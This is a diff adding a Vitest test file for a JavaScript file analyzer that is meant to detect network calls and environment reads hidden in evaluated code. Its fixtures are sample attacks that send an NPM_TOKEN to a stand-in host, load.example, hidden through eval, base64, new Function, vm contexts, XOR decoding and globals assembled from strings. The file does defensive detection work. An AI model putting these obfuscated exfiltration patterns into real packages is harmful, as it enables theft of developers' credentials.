@@ -1,0 +1,92 @@
+import { describe, expect, it } from 'vitest';
+import { readJavaScriptFile } from '../../src/profiles/javascript-file.ts';
+
+const inner = "fetch('https://load.example/x', { body: process.env.NPM_TOKEN });";
+const base64 = Buffer.from(inner).toString('base64');
+
+/** Kinds and what they are about, of what a file does. */
+function factsIn(code: string): readonly string[] {
+  const { observations } = readJavaScriptFile('index.js', code);
+  return observations.map(({ kind, attributes, line }) =>
+    [kind, attributes['destination'] ?? attributes['name'] ?? '', line].join(' '),
+  );
+}
+
+describe('text that is run as code', () => {
+  it.each<[string, string]>([
+    ['eval', `\neval(${JSON.stringify(inner)});`],
+    ['a text in base64', `\neval(Buffer.from('${base64}', 'base64').toString());`],
+    ['a function with parameters', `\nnew Function('a', 'b', ${JSON.stringify(inner)})(1, 2);`],
+    ['a function that returns', `\nFunction(${JSON.stringify(`return ${inner}`)})();`],
+    ['a context', `\nrequire('vm').runInThisContext(${JSON.stringify(inner)});`],
+    ['the loader of modules', `\nmodule._compile(${JSON.stringify(inner)}, 'x.js');`],
+    ['text in text', `\neval(${JSON.stringify(`eval(${JSON.stringify(inner)})`)});`],
+    [
+      'a decoder of the file',
+      `\nfunction d(list) { let text = ''; for (const one of list) text += String.fromCharCode(one ^ 5); return text; } eval(d([${Array.from(inner, (one) => one.charCodeAt(0) ^ 5).join(',')}]));`,
+    ],
+  ])('%s is code of the file', (_name, code) => {
+    const facts = factsIn(code);
+    expect(facts).toContain('network.connect load.example 2');
+    expect(facts).toContain('environment.read NPM_TOKEN 2');
+  });
+
+  it('waits when what runs it waits', () => {
+    const { observations } = readJavaScriptFile(
+      'index.js',
+      `export function later() { eval(${JSON.stringify(inner)}); }`,
+    );
+    const connects = observations.filter(({ kind }) => kind === 'network.connect');
+    expect(connects.map(({ inFunction }) => inFunction)).toEqual([true]);
+  });
+
+  it('loads the modules that it names', () => {
+    const { specifiers } = readJavaScriptFile('index.js', 'eval("require(\'./payload.js\')");');
+    expect(specifiers).toEqual(['./payload.js']);
+  });
+
+  it('says nothing when it is no code', () => {
+    expect(factsIn("eval('this is ( no code at all');")).toEqual(['code.evaluate  1']);
+  });
+
+  it('ends when texts hold texts without an end', () => {
+    const many = Array.from({ length: 300 }, () => `eval("a".repeat(60000));`).join('');
+    const deep = Array.from({ length: 100 }, () => `eval(${JSON.stringify(many)});`).join('');
+    const start = performance.now();
+    factsIn(deep);
+    expect(performance.now() - start).toBeLessThan(15_000);
+  });
+});
+
+describe('globals that are written as text', () => {
+  it.each<[string, string, string]>([
+    [
+      'the global object',
+      "const root = Function('return this')(); root['fet' + 'ch']('https://load.example/x');",
+      'network.connect load.example 1',
+    ],
+    [
+      'the process',
+      "new Function('return process')().env.NPM_TOKEN;",
+      'environment.read NPM_TOKEN 1',
+    ],
+    [
+      'the process in pieces',
+      "const get = new Function('return ' + 'process'); use(get().env.NPM_TOKEN);",
+      'environment.read NPM_TOKEN 1',
+    ],
+    [
+      'require',
+      "eval('require')('https').get('https://load.example/x');",
+      'network.connect load.example 1',
+    ],
+  ])('%s', (_name, code, fact) => {
+    expect(factsIn(code)).toContain(fact);
+  });
+
+  it('leaves other functions alone', () => {
+    expect(factsIn("const f = new Function('a', 'return a.env'); f(x).NPM_TOKEN;")).toEqual([
+      'code.evaluate  1',
+    ]);
+  });
+});
